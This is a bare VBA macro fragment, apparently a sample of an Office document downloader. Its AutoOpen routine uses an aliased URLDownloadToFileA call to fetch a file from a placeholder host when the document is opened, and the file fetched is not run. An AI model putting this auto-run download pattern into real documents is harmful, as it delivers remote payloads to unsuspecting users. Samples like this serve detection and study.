#If VBA7 Then
Private Declare PtrSafe Function got Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal u As String, ByVal p As String, ByVal r As Long, ByVal c As Long) As Long
#Else
#End If
Sub AutoOpen()
got 0, "http://example.invalid/", "a.txt", 0, 0
End Sub
